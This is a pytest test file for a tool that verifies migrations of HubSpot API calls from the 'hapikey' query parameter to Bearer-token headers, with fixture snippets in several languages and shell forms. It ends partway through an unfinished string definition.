"""Two states of a program: a right migration is accounted for, a wrong one is told, whoever made it."""

from __future__ import annotations

import json
import subprocess
import sys
import tempfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from migrations import MIGRATIONS, Migration

from migrator.model.compared_requests import Verification
from migrator.report import VERIFICATION_FORMATS as FORMATS
from migrator.report.verification import render
from migrator.settings import Settings
from migrator.verification import verify


def compared(folder: Path, before: Mapping[str, str], after: Mapping[str, str], **renames: str) -> Verification:
    """Compares two programs that are written below a folder."""
    for name, files in (("before", before), ("after", after)):
        for path, text in files.items():
            place = folder / name / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text, encoding="utf-8")
    states = (Settings(paths=(str(folder / name),)) for name in ("before", "after"))
    return verify(*states, renames=renames)


def told(found: Verification) -> list[str]:
    return [problem for row in found.rows for problem in row.problems]


MUTANTS = [(name, one.before, files) for one in MIGRATIONS for name, files in one.wrong()]


def test_there_are_enough_mutants() -> None:
    assert len(MUTANTS) >= 50


@pytest.mark.parametrize("one", MIGRATIONS, ids=lambda one: one.name)
def test_a_right_migration_is_accounted_for(one: Migration, tmp_path: Path) -> None:
    found = compared(tmp_path, one.before, one.after)
    assert told(found) == []
    assert found.counts()["moved"] > 0


@pytest.mark.parametrize("one", MIGRATIONS, ids=lambda one: one.name)
def test_a_program_that_stays_as_it_is_still_sends_its_key(one: Migration, tmp_path: Path) -> None:
    found = compared(tmp_path, one.before, one.before)
    assert set(told(found)) == {"it still sends hapikey"}


@pytest.mark.parametrize("one", MIGRATIONS, ids=lambda one: one.name)
def test_a_migrated_program_that_stays_as_it_is_is_accounted_for(one: Migration, tmp_path: Path) -> None:
    assert told(compared(tmp_path, one.after, one.after)) == []


@pytest.mark.parametrize(("name", "before", "after"), MUTANTS, ids=[name for name, _, _ in MUTANTS])
def test_a_wrong_migration_is_told(
    name: str, before: Mapping[str, str], after: Mapping[str, str], tmp_path: Path
) -> None:
    found = compared(tmp_path, before, after)
    assert told(found) or found.limits
    assert not found.ok


ONE = MIGRATIONS[0]


def test_a_source_that_is_renamed_on_purpose_is_named() -> None:
    renamed = {path: text.replace("HUBSPOT_API_KEY", "HUBSPOT_TOKEN") for path, text in ONE.after.items()}
    with tempfile.TemporaryDirectory() as one, tempfile.TemporaryDirectory() as other:
        unnamed = compared(Path(one), ONE.before, renamed)
        assert set(told(unnamed)) == {"the credential was read from HUBSPOT_API_KEY, is read from HUBSPOT_TOKEN"}
        assert compared(Path(other), ONE.before, renamed, HUBSPOT_API_KEY="HUBSPOT_TOKEN").ok


GIVEN = """import os
import requests

class Portal:
    def __init__(self, key):
        self.key = key

    def owners(self):
        return self.get("/crm/v3/owners")

    def get(self, path):
        return requests.get("https://api.hubapi.com" + path, params={"hapikey": self.key})
"""


@pytest.mark.parametrize(
    ("token", "problems"),
    [("self.key", set()), ("os.environ['T']", {"callers gave the credential, it is read from T for all of them"})],
)
def test_a_token_for_all_takes_no_place_of_what_each_caller_gives(
    token: str, problems: set[str], tmp_path: Path
) -> None:
    after = GIVEN.replace('params={"hapikey": self.key}', f'headers={{"Authorization": "Bearer " + {token}}}')
    assert set(told(compared(tmp_path, {"crm.py": GIVEN}, {"crm.py": after}))) == problems


@pytest.mark.parametrize("key", ["''", "os.environ['HUBSPOT_KEY']"])
def test_a_key_that_waits_to_be_filled_in_is_one(key: str, tmp_path: Path) -> None:
    head = f"import os\nimport requests\n\nKEY = {key}\nURL = 'https://api.hubapi.com/crm/v3/owners'\n"
    keyed = {"a.py": f"{head}requests.get(URL + '?hapikey=' + KEY)\n"}
    moved = {"a.py": f"{head}requests.get(URL, headers={{'Authorization': 'Bearer ' + KEY}})\n"}
    lost = {"a.py": f"{head}requests.get(URL)\n"}
    found = compared(tmp_path / "moved", keyed, moved)
    assert (told(found), found.counts()["moved"]) == ([], 1)
    assert told(compared(tmp_path / "lost", keyed, lost)) == ["the credential is no longer sent"]
    assert told(compared(tmp_path / "lost later", moved, lost)) == ["the credential is no longer sent"]
    assert told(compared(tmp_path / "kept", keyed, keyed)) == ["it still sends hapikey"]


def test_a_credential_that_is_logged_now_is_told_and_one_that_was_before_is_not(tmp_path: Path) -> None:
    head = "import os\nimport logging\nimport requests\n\nKEY = os.environ['HUBSPOT_KEY']\nURL = 'https://api.hubapi.com/crm/v3/owners'\n"
    sent = "AUTH = {'Authorization': 'Bearer ' + KEY}\nrequests.get(URL, headers=AUTH)\n"
    keyed = {"a.py": f"{head}requests.get(URL + '?hapikey=' + KEY)\n"}
    quiet, loud = {"a.py": head + sent}, {"a.py": f"{head}{sent}logging.info('sent with %s', AUTH)\n"}
    assert compared(tmp_path / "quiet", keyed, quiet).logged == ()
    found = compared(tmp_path / "loud", keyed, loud)
    assert [(at.line, told) for at, told in found.logged] == [(9, "AUTH")]
    assert (told(found), found.ok) == ([], False)
    assert all("AUTH" in render(form, found) for form in FORMATS)
    assert compared(tmp_path / "as before", loud, loud).ok


def test_a_key_does_not_become_an_empty_token(tmp_path: Path) -> None:
    head = (
        "import os\nimport requests\n\nKEY = os.environ['HUBSPOT_KEY']\nURL = 'https://api.hubapi.com/crm/v3/owners'\n"
    )
    keyed = {"a.py": f"{head}requests.get(URL + '?hapikey=' + KEY)\n"}
    empty = {"a.py": f"{head}requests.get(URL, headers={{'Authorization': 'Bearer ' + ''}})\n"}
    [problem] = told(compared(tmp_path, keyed, empty))
    assert "empty" in problem


def test_a_written_key_may_become_a_variable(tmp_path: Path) -> None:
    written = 'os.environ["HUBSPOT_API_KEY"]', '"7c1f3e22-9b4a-4d5e-8c6f-0a1b2c3d4e5f"'
    before = {path: text.replace(*written) for path, text in ONE.before.items()}
    assert told(compared(tmp_path, before, ONE.after)) == []


def test_the_same_problem_in_several_ways_to_one_place_is_told_once(tmp_path: Path) -> None:
    program = (
        "import os\nimport requests\n\n\n"
        "def owners():\n"
        '    return requests.get("https://api.hubapi.com/owners/v2/owners", params={"hapikey": os.environ["K"]})\n\n\n'
        "def run():\n    owners()\n\n\ndef again():\n    owners()\n"
    )
    found = compared(tmp_path, {"a.py": program}, {"a.py": program})
    assert len(told(found)) == 2
    text = render("text", found)
    assert text.count("it still sends hapikey") == 1
    assert "GET /owners/v2/owners (reached in 2 ways)" in text


@pytest.mark.parametrize(
    "host", ["os.environ.get('API', HOST)", "os.getenv('API', HOST)", "(os.environ.get('API') or HOST)"]
)
def test_a_host_that_has_become_configured_is_told_and_one_that_was_before_is_not(host: str, tmp_path: Path) -> None:
    head = "import os, requests\nKEY = os.environ['HUBSPOT_API_KEY']\nHOST = 'https://api.hubapi.com'\n"
    keyed = "requests.get({} + '/contacts/v1/lists', params={{'hapikey': KEY}})\n"
    moved = "requests.get({} + '/contacts/v1/lists', headers={{'Authorization': 'Bearer ' + KEY}})\n"
    after = {"a.py": head + moved.format(host)}
    [problem] = told(compared(tmp_path / "one", {"a.py": head + keyed.format("HOST")}, after))
    assert problem.startswith("the address begins with what API says")
    assert told(compared(tmp_path / "two", {"a.py": head + keyed.format(host)}, after)) == []


def test_what_is_not_followed_is_said(tmp_path: Path) -> None:
    broken = {"app.py": ONE.after["app.py"], "more.py": "hapikey = (\n"}
    found = compared(tmp_path, ONE.before, broken)
    assert found.limits


@pytest.mark.parametrize(("name", "right"), [("send", True), ("other", False)])
def test_what_neither_state_lets_follow_is_accounted_for_while_it_stays_as_it_is(
    name: str, right: bool, tmp_path: Path
) -> None:
    broken = 'OWNERS = "https://api.hubapi.com/owners/v2"\n\n\ndef {}(:\n    pass\n'
    before, after = {**ONE.before, "late.py": broken.format("send")}, {**ONE.after, "late.py": broken.format(name)}
    found = compared(tmp_path, before, after)
    assert [at.path for at, _ in found.open] == ([] if right else ["late.py"])
    assert "Every request is accounted for." not in render("text", found)


@pytest.mark.parametrize("form", FORMATS)
def test_every_format_tells_each_problem(form: str, tmp_path: Path) -> None:
    _, wrong = next(ONE.wrong())
    text = render(form, compared(tmp_path, ONE.before, wrong))
    assert "x-trace is no longer sent" in text.replace("\\", "")
    assert "app.py" in text
    if form in ("json", "sarif"):
        assert json.loads(text)


@pytest.mark.parametrize("form", FORMATS)
def test_every_format_says_that_all_is_well(form: str, tmp_path: Path) -> None:
    text = render(form, compared(tmp_path, ONE.before, ONE.after))
    assert {"json": '"ok": true', "sarif": '"results": []'}.get(form, "Every request is accounted for.") in text


def test_a_path_is_an_address_in_sarif(tmp_path: Path) -> None:
    _, wrong = next(ONE.wrong())
    states = [{f"our app/{name}": text for name, text in files.items()} for files in (ONE.before, wrong)]
    result = json.loads(render("sarif", compared(tmp_path, *states)))["runs"][0]["results"][0]
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "our%20app/app.py"


def git(folder: Path, *arguments: str) -> None:
    options = ("-c", "user.name=x", "-c", "user.email=x@example.com")
    subprocess.run(["git", *options, *arguments], cwd=folder, check=True, capture_output=True)


def run(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "migrator", "verify", *arguments]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)


def test_a_revision_is_compared_with_the_work_tree(tmp_path: Path) -> None:
    file = tmp_path / "app.py"
    file.write_text(ONE.before["app.py"])
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-qm", "x")
    same = run(tmp_path, "--since", "HEAD")
    assert (same.returncode, "still sends hapikey" in same.stdout) == (1, True)
    file.write_text(ONE.after["app.py"])
    done = run(tmp_path, "--since", "HEAD", "--format", "json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["summary"] == {
        "ok": True, "moved": 3, "equal": 0, "differs": 0, "lost": 0, "new": 0,
    }  # fmt: skip
    missing = run(tmp_path, "--since", "nowhere")
    assert (missing.returncode, "--since" in missing.stderr) == (2, True)


def test_two_folders_or_a_revision_have_to_be_given(tmp_path: Path) -> None:
    for arguments in ((), (".",), (".", ".", "."), (".", ".", "--rename", "OLD")):
        done = run(tmp_path, *arguments)
        assert (done.returncode, "Traceback" in done.stderr) == (2, False)


def test_no_output_shows_a_written_token(tmp_path: Path) -> None:
    token = "pat-na1-0a1b2c3d-1111-4222-8333-444455556666"  # noqa: S105 - nobody's
    after = {path: text.replace('os.environ["HUBSPOT_API_KEY"]', f'"{token}"') for path, text in ONE.after.items()}
    found = compared(tmp_path, ONE.before, after)
    assert "the token is written in the source" in told(found)
    assert all(token[12:24] not in render(form, found) for form in FORMATS)


def test_a_variable_that_is_renamed_is_no_difference(tmp_path: Path) -> None:
    number = {path: text.replace("(count)", "(n)").replace(": count", ": n") for path, text in ONE.after.items()}
    assert told(compared(tmp_path, ONE.before, number)) == []


def test_a_file_that_no_longer_names_the_key_is_read_in_both_states(tmp_path: Path) -> None:
    ask = 'import os\n\nimport requests\n\nrequests.get(os.environ["BASE"] + "/crm/v3/owners", {sent})\n'
    keyed = ask.format(sent='params={"hapikey": os.environ["K"]}')
    moved = ask.format(sent='headers={"Authorization": "Bearer " + os.environ["K"]}')
    other = 'import requests\n\nrequests.get("https://api.hubapi.com/crm/v3/objects/deals", headers={})\n'
    found = compared(tmp_path, {"app.py": keyed, "other.py": other}, {"app.py": moved, "other.py": other})
    assert told(found) == []
    assert found.counts()["moved"] == 1


SCRIPT = """const axios = require('axios');
const BASE = 'https://api.hubapi.com';
const KEY = process.env.HUBSPOT_API_KEY;
const jobs = [];
for (const kind of ['deals', 'tickets']) {
  jobs.push(() => axios.get(`${BASE}/crm/v3/objects/${kind}`, { params: { limit: 5, hapikey: KEY } }));
}
const tag = (id) => axios.patch(`${BASE}/crm/v3/objects/contacts/${id}?hapikey=${KEY}`, { properties: { tag: 'a' } });
module.exports = { all: () => jobs.map((job) => job()), tag };
"""
MOVED = (
    SCRIPT.replace("limit: 5, hapikey: KEY } }", "limit: 5 }, headers }")
    .replace("?hapikey=${KEY}`", "`")
    .replace("{ tag: 'a' } }", "{ tag: 'a' } }, { headers }")
    .replace("const jobs", "const headers = { Authorization: `Bearer ${KEY}` };\nconst jobs")
)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("", "", None),
        ("limit: 5 }, headers }", "limit: 5 } }", "the credential is no longer sent"),
        ("limit: 5 }", "limit: 6 }", "query parameter limit has another value"),
        ("limit: 5 }", "limit: 5, hapikey: '' }", "it still sends hapikey, without a value"),
        ("limit: 5 }", "limit: 5, hapikey: null }", None),
        ("{ params: { limit: 5 }, headers }", "{ headers }", "query parameter limit is no longer sent"),
        ("`${BASE}/crm/v3/objects/${kind}`", "`https://example.com/${kind}`", "the host was api.hubapi.com"),
        ("{ tag: 'a' } }, {", "{ tag: 'b' } }, {", "field of the body properties.tag has another value"),
        ("{ properties: { tag: 'a' } }", "{ properties: {} }", "field of the body properties.tag is no longer sent"),
        ("axios.patch", "axios.put", "the method was PATCH, is PUT"),
        ("for (const kind", "for (var kind", "the request is no longer sent"),
        ("['deals', 'tickets']", "['deals']", "the request is no longer sent"),
        ("`Bearer ${KEY}`", "`Token ${KEY}`", "Authorization is no Bearer token"),
    ],
)
def test_a_script_is_compared_as_a_program_of_python_is(
    old: str, new: str, problem: str | None, tmp_path: Path
) -> None:
    assert old in MOVED
    found = compared(tmp_path, {"crm.js": SCRIPT}, {"crm.js": MOVED.replace(old, new) if old else MOVED})
    assert bool(told(found)) == bool(problem)
    assert not problem or any(one.startswith(problem) for one in told(found))


PAGER = """const key = process.env.HUBSPOT_API_KEY;
async function page(after) {
  let url = `https://api.hubapi.com/crm/v3/objects/contacts?hapikey=${key}`;
  if (after) url += `&after=${after}`;
  const data = await (await fetch(url)).json();
  return data.paging ? page(data.paging.next.after) : data;
}
const save = (body) => fetch(`https://api.hubapi.com/crm/v3/objects/deals?hapikey=${key}`, {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify(body),
});
page();
save({ properties: { amount: 3 } });
"""
HEADER = "headers: { Authorization: `Bearer ${key}` }"
PAGED = (
    PAGER.replace("?hapikey=${key}", "")
    .replace("`&after=", "`?after=")
    .replace("fetch(url)", f"fetch(url, {{ {HEADER} }})")
    .replace("'application/json' }", "'application/json', Authorization: `Bearer ${key}` }")
)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("", "", None),
        ("`?after=", "`&after=", "& stands where ? has to open the query"),
        ("if (after) url += `?after=${after}`;", "", "the request is no longer sent"),
        (f"fetch(url, {{ {HEADER} }})", "fetch(url)", "the credential is no longer sent"),
        (", Authorization: `Bearer ${key}` }", " }", "the credential is no longer sent"),
        ("`Bearer ${key}` } }", "`Bearer${key}` } }", "Authorization is no Bearer token"),
        ("objects/deals`", "objects/deals?hapikey=${key}`", "it still sends hapikey beside the token"),
        ("amount: 3", "amount: 4", "field of the body properties.amount has another value"),
        ("method: 'POST'", "method: 'PUT'", "the method was POST, is PUT"),
        ("https://api.hubapi.com/crm/v3/objects/deals", "http://api.hubapi.com/deals/v1/deal", "the scheme was https"),
        ("https://api.hubapi.com/crm/v3/objects/deals", "https://example.com/deals", "the host was api.hubapi.com"),
        ("const key = process.env.HUBSPOT_API_KEY", "const key = process.env.PORTAL", "the credential was read from"),
        ("save({", "void ({", "field of the body properties is no longer sent"),
    ],
)  # fmt: skip
def test_a_pager_is_compared_page_by_page(old: str, new: str, problem: str | None, tmp_path: Path) -> None:
    assert old in PAGED
    found = compared(tmp_path, {"crm.js": PAGER}, {"crm.js": PAGED.replace(old, new) if old else PAGED})
    assert bool(told(found)) == bool(problem), told(found)
    assert not problem or any(one.startswith(problem) for one in told(found)), told(found)


FORMS = """\
const key = process.env.HUBSPOT_API_KEY;
const from = '%(scheme)s://api.hubapi.com/crm/v3/objects/products';
const named = new Headers();
named.append('Accept', 'text/csv');
%(named)sexports.classes = () => {
  const u = new URL('https://api.hubapi.com/crm/v3/objects/deals');
  u.search = `%(search)slimit=3`;
  return fetch(u, { headers: named });
};
const owners = 'https://api.hubapi.com/owners/v2/owners%(query)s';
exports.pairs = () => fetch(owners, { headers: [['Accept', 'text/csv']%(pair)s] });
const ended = 'https://api.hubapi.com/crm/v3/objects/companies%(ended)s';
exports.ended = () => fetch(ended%(added)slimit=3'%(options)s);
exports.plain = (after) => {
  const q = new URLSearchParams();
  if (after) q.set('after', after);
%(set)s  return fetch(`${from}?${q}`%(options)s);
};
"""
KEYED = FORMS % {
    "scheme": "http", "named": "", "search": "hapikey=${key}&", "query": "?hapikey=' + key + '", "pair": "",
    "ended": "?hapikey=", "added": " + key + '&", "options": "", "set": "  q.set('hapikey', key);\n",
}  # fmt: skip
FREE = FORMS % {
    "scheme": "https", "named": "named.append('Authorization', `Bearer ${key}`);\n", "search": "", "query": "",
    "pair": ", ['Authorization', `Bearer ${key}`]", "ended": "", "added": " + '?",
    "options": ", { headers: { Authorization: `Bearer ${key}` } }", "set": "",
}  # fmt: skip


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("", "", None),
        ("https://api.hubapi.com/crm/v3/objects/pro", "http://api.hubapi.com/crm/v3/objects/pro", "the token is"),
        ("named.append('Authorization', `Bearer ${key}`);\n", "", "the credential is no longer sent"),
        ("named.append('Accept', 'text/csv');\n", "", "header accept is no longer sent"),
        ("u.search = `limit=3`;", "", "query parameter limit is no longer sent"),
        ("[['Accept', 'text/csv'], ", "[", "header accept is no longer sent"),
        (", ['Authorization', `Bearer ${key}`]", "", "the credential is no longer sent"),
        ("['Authorization', `Bearer ${key}`]", "['Authorization', key]", "Authorization is no Bearer token"),
        ("ended + '?limit", "ended + '&limit", "& stands where ? has to open the query"),
        ("  if (after) q.set('after', after);\n", "", ""),
    ],
)  # fmt: skip
def test_the_classes_of_the_platform_are_compared_part_by_part(
    old: str, new: str, problem: str | None, tmp_path: Path
) -> None:
    assert old in FREE
    found = compared(tmp_path, {"crm.js": KEYED}, {"crm.js": FREE.replace(old, new, 1) if old else FREE})
    assert bool(told(found)) == (problem is not None), told(found)
    assert not problem or any(one.startswith(problem) for one in told(found)), told(found)


PHP = {
    "keyed": '<?php file_get_contents("https://api.hubapi.com/contacts/v1/lists?hapikey=" . $key);\n',
    "bearer": '<?php get("https://api.hubapi.com/contacts/v1/lists", ["Authorization: Bearer $key"]);\n',
    "other": '<?php get("https://api.hubapi.com/contacts/v1/list", ["Authorization: Bearer $key"]);\n',
}
SHELL = {
    "keyed": 'curl "https://api.hubapi.com/contacts/v1/lists?hapikey=$K"\n',
    "bearer": 'curl -H "Authorization: Bearer $K" "https://api.hubapi.com/contacts/v1/lists"\n',
    "other": 'curl -H "Authorization: Bearer $K" "https://api.hubapi.com/contacts/v1/list"\n',
    "none": "curl https://api.hubapi.com/contacts/v1/lists\n",
}
STRANGER = {
    "keyed": "import os, crmlib\ncrmlib.send('/lists', hapikey=os.environ['PORTAL'])\n",
    "token": "import os, crmlib\ncrmlib.send('/lists', token=os.environ['PORTAL'])\n",
}


@pytest.mark.parametrize(
    ("name", "texts", "was", "now", "right"),
    [
        ("a.php", PHP, "keyed", "keyed", False),
        ("a.php", PHP, "keyed", "bearer", False),  # nobody can tell
        ("a.php", PHP, "bearer", "other", False),
        ("a.php", PHP, "bearer", "bearer", True),
        ("a.sh", SHELL, "keyed", "keyed", False),
        ("a.sh", SHELL, "keyed", "bearer", True),
        ("a.sh", SHELL, "keyed", "other", False),
        ("a.sh", SHELL, "keyed", "none", False),
        ("a.sh", SHELL, "bearer", "bearer", True),
        ("late.py", STRANGER, "keyed", "keyed", False),
    ],
)
def test_what_is_not_evaluated_is_accounted_for_too(
    name: str, texts: Mapping[str, str], was: str, now: str, right: bool, tmp_path: Path
) -> None:
    found = compared(tmp_path, {**ONE.before, name: texts[was]}, {**ONE.after, name: texts[now]})
    assert found.ok == right
    assert found.ok or any(at.path == name for at, _ in found.open) or told(found)
    assert found.open == () or all(name in render(form, found) for form in FORMATS)


def test_code_of_another_language_that_is_gone_is_told(tmp_path: Path) -> None:
    found = compared(tmp_path, {**ONE.before, "a.php": PHP["keyed"]}, ONE.after)
    assert [at.path for at, _ in found.open] == ["a.php"]


def test_what_could_not_be_followed_and_is_no_more_is_said(tmp_path: Path) -> None:
    found = compared(tmp_path, {**ONE.before, "late.py": STRANGER["keyed"]}, {**ONE.after, "late.py": "import os\n"})
    assert any("late.py" in limit for limit in found.limits)


POSTED = 'curl -X POST "https://api.hubapi.com/deals/v1/deal{}" {}-d {}\n'
HEADED = '-H "Authorization: Bearer $HUBSPOT_KEY" '


@pytest.mark.parametrize(
    ("header", "body", "problem"),
    [
        (HEADED, "@deal.json", None),
        (HEADED.replace('"', "'"), "@deal.json", "the name of a variable is sent, not its value"),
        (HEADED, "deal.json", "what has no name in the body has another value"),
        (HEADED, "@other.json", "what has no name in the body has another value"),
    ],
)
def test_what_a_shell_sends_is_what_its_quotes_leave(
    header: str, body: str, problem: str | None, tmp_path: Path
) -> None:
    before = {"send.sh": POSTED.format("?hapikey=$HUBSPOT_KEY", "", "@deal.json")}
    found = compared(tmp_path, before, {"send.sh": POSTED.format("", header, body)})
    assert told(found) == ([problem] if problem else [])


@pytest.mark.parametrize(
    "command",
    [
        """bash -c 'curl "https://api.hubapi.com/owners/v2/owners" -H "Authorization: Bearer $HUBSPOT_KEY"'\n""",
        """ssh host "curl 'https://api.hubapi.com/owners/v2/owners' -H 'Authorization: Bearer $HUBSPOT_KEY'"\n""",
        "ssh host <<EOF\ncurl 'https://api.hubapi.com/owners/v2/owners' -H 'Authorization: Bearer $HUBSPOT_KEY'\nEOF\n",
    ],
)
def test_quotes_of_a_text_that_another_shell_filled_keep_nothing(command: str, tmp_path: Path) -> None:
    before = {"send.sh": 'curl "https://api.hubapi.com/owners/v2/owners?hapikey=$HUBSPOT_KEY"\n'}
    assert told(compared(tmp_path, before, {"send.sh": command})) == []


def collected(url: str, query: str, header: str, method: str = "GET") -> dict[str, str]:
    request = (
        f'{{"method": "{method}", "header": [{header}], "url": {{"raw": "https://api.hubapi.com{url}", '
        f'"host": ["api", "hubapi", "com"], "query": [{query}]}}}}'
    )
    return {"hub.postman_collection.json": f'{{"info": {{"name": "hub"}}, "item": [{{"request": {request}}}]}}'}


KEYED_PAIR = '{"key": "hapikey", "value": "{{key}}"}'
BEARER = '{"key": "Authorization", "value": "Bearer {{key}}"}'


@pytest.mark.parametrize(
    ("after", "problem"),
    [
        (collected("/owners/v2/owners", "", BEARER), None),
        (collected("/owners/v2/owners", "", BEARER, "PUT"), "the method was GET, is PUT"),
        (collected("/owners/v2/owners", KEYED_PAIR, BEARER), "it still sends hapikey beside the token"),
        (collected("/owners/v2/owners", "", ""), "the credential is no longer sent"),
        (collected("/owners/v2/owners?hapikey={{key}}", KEYED_PAIR, ""), None),  # as it was
        ({"README.md": "All gone.\n"}, None),
    ],
)
def test_a_request_that_people_send_is_compared_where_it_was_changed(
    after: Mapping[str, str], problem: str | None, tmp_path: Path
) -> None:
    before = collected("/owners/v2/owners?hapikey={{key}}", KEYED_PAIR, "")
    found = compared(tmp_path, before, after)
    assert told(found) == ([problem] if problem else [])
    assert found.ok == (problem is None)


JOB = """env:
  HUBSPOT_KEY: ${{{{ secrets.{given} }}}}
jobs:
  sync:
    steps:
      - run: curl "https://api.hubapi.com/owners/v2/owners{sent}
"""


@pytest.mark.parametrize(
    ("after", "why"),
    [
        (JOB.format(given="HUBSPOT_KEY", sent=f'" {HEADED}'), ""),
        (JOB.format(given="HUBSPOT_TOKEN", sent=f'" {HEADED}'), ""),
        (JOB.format(given="SLACK", sent=f'" {HEADED}'), "is given ${{ secrets.SLACK }} here"),
        (JOB.format(given="", sent=f'" {HEADED}').partition("\n")[2].partition("\n")[2], "nothing gives it a value"),
    ],
)
def test_what_gives_the_token_its_value_is_accounted_for(after: str, why: str, tmp_path: Path) -> None:
    before = JOB.format(given="HUBSPOT_KEY", sent='?hapikey=$HUBSPOT_KEY"')
    path = ".github/workflows/sync.yml"
    found = compared(tmp_path, {path: before}, {path: after})
    assert told(found) == []
    assert [why in text for _, text in found.open] == ([True] if why else [])


@pytest.mark.parametrize(("body", "right"), [("JSON.stringify({{ name }})", True), ("{{ name }}", False)])
def test_an_object_is_no_body_of_a_client_that_makes_a_text_of_it(body: str, right: bool, tmp_path: Path) -> None:
    url, key = "https://api.hubapi.com/crm/v3/objects/deals", "process.env.HUBSPOT_KEY"
    before = f'axios.post("{url}", {{ name }}, {{ params: {{ hapikey: {key} }} }});'
    headers = f'{{ Authorization: `Bearer ${{{key}}}`, "Content-Type": "application/json" }}'
    sent = f'{{ method: "POST", headers: {headers}, body: {body.format()} }}'
    files = [
        f'const axios = require("axios");\nexports.send = async (name) => {{ {one} }};\n'
        for one in (before, f'await fetch("{url}", {sent});')
    ]
    found = compared(tmp_path, {"send.js": files[0]}, {"send.js": files[1]})
    assert told(found) == (
        [] if right else ["the body is an object, of which the client makes the text [object Object]"]
    )


@pytest.mark.parametrize(
    ("headers", "problem"),
    [
        ('"Content-Type": "application/json"', None),
        ('"Content-Type": "application/json", Accept: "application/json"', None),
        ("", "nothing says any more that the body is JSON: add the header Content-Type"),
        ('"Content-Type": "text/plain"', "header content-type was not sent before"),
        ('"Content-Type": "application/json", "X-Extra": "1"', "header x-extra was not sent before"),
    ],
)
def test_another_client_has_to_say_that_the_body_is_json(headers: str, problem: str | None, tmp_path: Path) -> None:
    url, key = "https://api.hubapi.com/crm/v3/objects/deals", "process.env.HUBSPOT_KEY"
    head = f'exports.send = async (name) => {{ await {{}}("{url}", {{}}) }};\n'
    headed = f"headers: {{ Authorization: `Bearer ${{{key}}}`, {headers} }}"
    sent = f"{{ method: 'POST', {headed}, body: JSON.stringify({{ name }}) }}"
    before = 'const axios = require("axios");\n' + head.replace("{}", "axios.post", 1).replace(
        "{}", f"{{ name }}, {{ params: {{ hapikey: {key} }} }}"
    )
    found = compared(tmp_path, {"a.js": before}, {"a.js": head.replace("{}", "fetch", 1).replace("{}", sent)})
    assert (problem in told(found)) if problem else told(found) == []


@pytest.mark.parametrize(
    ("value", "problem"),
    [("Authorization: Bearer $HUBSPOT_KEY", None), ("Authorization: $HUBSPOT_KEY", "Authorization is no Bearer token")],
)
def test_a_variable_of_a_script_can_hold_a_header(value: str, problem: str | None, tmp_path: Path) -> None:
    before = 'curl "https://api.hubapi.com/owners/v2/owners?hapikey=$HUBSPOT_KEY"\n'
    after = f'HEAD="{value}"\ncurl "https://api.hubapi.com/owners/v2/owners" -H "$HEAD"\n'
    assert told(compared(tmp_path, {"a.sh": before}, {"a.sh": after})) == ([problem] if problem else [])


BUILD = 'FROM curl\nARG HUBSPOT_KEY\nRUN curl "https://api.hubapi.com/owners/v2/owners{}\n'
INVOKED = 'Invoke-RestMethod -Uri "https://api.hubapi.com/owners/v2/owners{}\n'


@pytest.mark.parametrize(
    ("name", "before", "after", "right"),
    [
        ("Dockerfile", BUILD.format('?hapikey=$HUBSPOT_KEY"'), BUILD.format(f'" {HEADED}'), True),
        (
            "Dockerfile",
            BUILD.format('?hapikey=$HUBSPOT_KEY"'),
            BUILD.format(f'" {HEADED}').replace("ARG HUBSPOT_KEY\n", ""),
            False,
        ),
        (
            "a.ps1",
            INVOKED.format('?hapikey=$key"'),
            INVOKED.format('" -Headers @{ Authorization = "Bearer $key" }'),
            True,
        ),
        (
            "a.ps1",
            INVOKED.format('?hapikey=$key"'),
            INVOKED.format("\" -Headers @{ Authorization = 'Bearer $key' }"),
            False,
        ),
    ],
)
def test_scripts_of_other_kinds_are_compared_too(
    name: str, before: str, after: str, right: bool, tmp_path: Path
) -> None:
    assert compared(tmp_path, {name: before}, {name: after}).ok == right


@pytest.mark.parametrize(("pinned", "problems"), [("", 1), ("^2.3.0", 0)])
def test_a_library_of_which_some_releases_send_the_token_in_the_query_has_to_be_asked_for_anew(
    pinned: str, problems: int, tmp_path: Path
) -> None:
    was = "const H = require('hubspot');\nnew H({ apiKey: process.env.K }).contacts.getByEmail('a@b.c');\n"
    manifest = {"package.json": json.dumps({"dependencies": {"hubspot": pinned}})} if pinned else {}
    found = compared(tmp_path, {"a.js": was}, {"a.js": was.replace("apiKey", "accessToken"), **manifest})
    expected = ["some releases of hubspot send accessToken in the query: ask for later ones"]
    assert told(found) == expected * problems


def test_what_a_program_makes_of_a_key_is_made_of_the_token(tmp_path: Path) -> None:
    head = "import os, requests\nurl = 'https://api.hubapi.com/crm/v3/objects/contacts'\n"
    key = "os.environ['HUBSPOT_API_KEY'].strip()"
    before = {"a.py": f"{head}requests.get(url, params={{'hapikey': {key}}})\n"}
    after = {"a.py": f"{head}requests.get(url, headers={{'Authorization': 'Bearer ' + {key}}})\n"}
    assert told(compared(tmp_path / "same", before, after)) == []
    bare = {"a.py": after["a.py"].replace(".strip()", "")}
    assert told(compared(tmp_path / "other", before, bare)) != []


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("app.js", "  return res.data;", "console.log(res.config.headers.Authorization);"),
        ("app.js", "  return res.data;", "console.log(res.config);"),
        ("hub.py", "        return res.json()", "print(res.request.headers)"),
        ("hub.py", "        return res.json()", "print(res.request.headers['Authorization'])"),
    ],
)
def test_a_request_that_its_answer_holds_is_logged_with_the_token(
    path: str, text: str, line: str, tmp_path: Path
) -> None:
    one = next(one for one in MIGRATIONS if path in one.after)
    indent = text[: len(text) - len(text.lstrip())]
    found = compared(tmp_path, one.before, {path: one.after[path].replace(text, f"{indent}{line}\n{text}")})
    assert [at.path for at, _ in found.logged] == [path]


def test_what_else_an_answer_or_another_request_holds_is_logged_as_it_likes(tmp_path: Path) -> None:
    one = next(one for one in MIGRATIONS if "app.js" in one.after)
    logs = "  console.log(res.headers, res.status, count.headers);\n  return res.data;"
    assert compared(tmp_path, one.before, {"app.js": one.after["app.js"].replace("  return res.data;", logs)}).ok


TOKENED = """

class Vendor:
